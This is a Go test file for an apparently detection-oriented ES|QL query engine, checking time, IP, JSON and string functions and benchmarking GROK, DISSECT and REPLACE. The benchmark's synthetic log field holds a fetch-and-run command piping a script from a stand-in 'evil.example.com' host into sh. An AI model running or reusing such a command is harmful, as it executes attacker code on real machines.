package run

import (
	"strings"
	"testing"

	"github.com/tocsin-rules/tocsin/internal/diag"
	"github.com/tocsin-rules/tocsin/internal/lang/esql"
)

// Functions in whole queries: what the checker reads into their arguments, and the columns that they take unnamed.
func TestFunctionsInQueries(t *testing.T) {
	const times = `{"k":"a","n":1,"ip":"10.0.0.1","@timestamp":"2026-01-02T03:00:00Z"}
{"k":"b","n":2,"ip":"10.0.0.2","@timestamp":"2026-01-02T02:30:00Z"}
{"k":"c","n":4,"@timestamp":"2026-01-01T00:00:00Z"}`
	for _, c := range []struct{ query, want string }{
		{`FROM x | STATS f = EARLIEST(k), l = LATEST(k), v = FIRST(n, n), w = LAST(k, @timestamp)`, "f:keyword l:keyword v:long w:keyword\nc a 1 a"},
		{`FROM x | WHERE TRANGE(1 hour) | SORT n | KEEP n`, "n:long\n1\n2"},
		{`FROM x | WHERE TRANGE("2026-01-01T00:00:00Z", "2026-01-02T02:30:00Z") | KEEP n`, "n:long\n2"}, // the first bound is left out
		{`FROM x | STATS c = COUNT(*) BY b = TBUCKET(1 day) | SORT b`, "c:long b:date\n1 2026-01-01T00:00:00.000Z\n2 2026-01-02T00:00:00.000Z"},
		{`FROM x | STATS c = COUNT(*) BY b = BUCKET(@timestamp, 50, "2026-01-01", "2026-01-03") | SORT b`, "c:long b:date\n1 2026-01-01T00:00:00.000Z\n1 2026-01-02T02:00:00.000Z\n1 2026-01-02T03:00:00.000Z"},
		{`FROM x | STATS c = COUNT(*) BY BIN(n, 2) | SORT c`, "c:long BIN(n, 2):double\n1 0.0\n1 2.0\n1 4.0"},
		{`FROM x | EVAL s = DATE_TRUNC(1 day, "2026-01-02T03:00:00Z") | KEEP s | LIMIT 1`, "s:date\n2026-01-02T00:00:00.000Z"},
		{`FROM x | EVAL d = DATE_DIFF("minutes", @timestamp, NOW()) | SORT n | KEEP d | LIMIT 2`, "d:integer\n4\n34"},
		{`FROM x | WHERE CIDR_MATCH(ip, "10.0.0.2/32", "10.9.0.0/16") | KEEP n`, "n:long\n2"},
		{`FROM x | EVAL c = CASE(n > 3, "big", n > 1, "middle", "small") | SORT n | KEEP c`, "c:keyword\nsmall\nmiddle\nbig"},
		{`FROM x | EVAL c = COALESCE(TO_STRING(ip), k) | SORT n | KEEP c`, "c:keyword\n10.0.0.1\n10.0.0.2\nc"},
		{`FROM x | STATS s = SUM(CASE(n > 1, 1, 0)), t = TOP(k, 2, "desc"), p = PERCENTILE(n, 50), v = MV_SORT(VALUES(k))`, "s:long t:keyword p:double v:keyword\n2 [c,b] 2.0 [a,b,c]"},
		{`ROW a = "1|2|3" | EVAL b = SPLIT(a, "|"), c = MV_COUNT(b), d = MV_LAST(b)::integer + 1 | KEEP c, d`, "c:integer d:integer\n3 4"},
		{`ROW a = "x" | EVAL b = a::double | KEEP b`, "b:double\nnull"},
		{`ROW a = TO_GEOPOINT("POINT (0 0)"), b = TO_GEOPOINT("POINT (0 90)") | EVAL d = ROUND(ST_DISTANCE(a, b)) | KEEP d`, "d:double\n1.0007557E7"},
		{`ROW j = """{"a":{"b":[1,"x"]}}""" | EVAL r = JSON_EXTRACT(j, "a.b[1]"), o = JSON_EXTRACT(j, "$.a") | KEEP r, o`, "r:keyword o:keyword\nx {\"b\":[1,\"x\"]}"},
		{`ROW s = "a.b" | EVAL r = REPLACE(s, "\\.", "-"), q = REPLACE(s, """(\w)\.(\w)""", "$2$1") | KEEP r, q`, "r:keyword q:keyword\na-b ba"},
		{`FROM x METADATA _source | EVAL r = JSON_EXTRACT(_source, "n") | SORT r | KEEP r | LIMIT 1`, "r:keyword\n1"},
	} {
		if got := table(query(t, c.query, times, options())); got != c.want {
			t.Errorf("%s\ngives\n%s\nwant\n%s", c.query, got, c.want)
		}
	}
}

func BenchmarkFunctions(b *testing.B) {
	var lines strings.Builder
	for range 2000 {
		lines.WriteString(`{"k":"sh -c curl -fsSL https://evil.example.com:8443/stage2.sh | sh","k2":"10.0.0.1 - joe [31/Jan/2026:10:20:30 +0100] \"GET / HTTP/1.1\" 200 512","n":7}` + "\n")
	}
	docs := decode(b, lines.String())
	for _, c := range []struct{ name, query string }{
		{"grok", `FROM x | GROK k "%{URIPROTO:p}://%{URIHOST:h}" | STATS COUNT(*) BY h`},
		{"dissect", `FROM x | DISSECT k2 "%{client} %{ident} %{auth} [%{time}] %{rest}" | STATS COUNT(*) BY auth`},
		{"replace", `FROM x | EVAL r = REPLACE(k, "(?i)HTTPS?://[^/ ]+", "<url>") | STATS COUNT(*) BY r`},
	} {
		b.Run(c.name, func(b *testing.B) {
			o := options()
			q, problem := esql.Parse(c.query)
			if problem != nil {
				b.Fatal(problem.Message)
			}
			plan, problems := q.Check(o)
			if diag.AnyError(problems) {
				b.Fatal(problems[0].Message)
			}
			program := Compile(plan, Options{Layout: o.Builder.Layout, Env: o.Env})
			for b.Loop() {
				program.Run(Input{Docs: docs})
			}
			b.ReportMetric(float64(b.N)*float64(len(docs))/b.Elapsed().Seconds(), "rows/s")
		})
	}
}
